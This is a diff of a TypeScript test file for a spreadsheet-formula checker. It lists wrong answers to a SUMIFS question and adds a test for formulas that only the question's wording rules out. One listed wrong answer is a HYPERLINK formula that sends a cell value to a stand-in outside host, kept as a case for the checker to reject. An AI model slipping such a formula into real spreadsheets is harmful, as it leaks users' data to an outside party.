@@ -44,13 +44,11 @@ const wrong: [string, string, Request?][] = [
   ["it is in prose", "Add the paid amounts of the North."],
   ["a criterion is left out", '=SUMIFS(D2:D6,B2:B6,"North")'],
   ["another value is chosen", '=SUMIFS(D2:D6,B2:B6,"South",C2:C6,"Paid")'],
-  ["a criterion is turned round", '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"<>Paid")'],
   ["a range misses the last row", '=SUMIFS(D2:D5,B2:B5,"North",C2:C5,"Paid")'],
   ["ranges begin in different rows", '=SUMIFS(D2:D6,B1:B5,"North",C2:C6,"Paid")'],
   ["the criterion stands in another column", '=SUMIFS(D2:D6,A2:A6,"North",C2:C6,"Paid")'],
   ["the summed column holds texts", '=SUMIFS(A2:A6,B2:B6,"North",C2:C6,"Paid")'],
   ["quotes are missing", '=SUMIFS(D2:D6,B2:B6,North,C2:C6,"Paid")'],
-  ["it averages", '=AVERAGEIFS(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
   ["the result is written down", "=180"],
   ["conditions are added", '=SUMIF(B2:B6,"North",D2:D6)+SUMIF(C2:C6,"Paid",D2:D6)'],
   ["it brings an address", `=HYPERLINK("https://x.example/?q="&D2,"${"North Paid"}")`],
@@ -184,4 +182,14 @@ test("no text makes the check throw", async () => {
     expect(["failed", "checked", "verified"]).toContain(
       (await verify(body, { question: body, data: body })).verdict,
     );
+});
+
+test.each([
+  ["turned round", '=SUMIFS(D2:D6,B2:B6,"North",C2:C6,"<>Paid")'],
+  ["averaged", '=AVERAGEIFS(D2:D6,B2:B6,"North",C2:C6,"Paid")'],
+])("a formula that only the words of the question speak against is doubted: %s", async (_why, formula) => {
+  const { verdict, problems } = await verify(formula, total);
+
+  expect(verdict).toBe("checked");
+  expect(problems.length).toBeGreaterThan(0);
 });
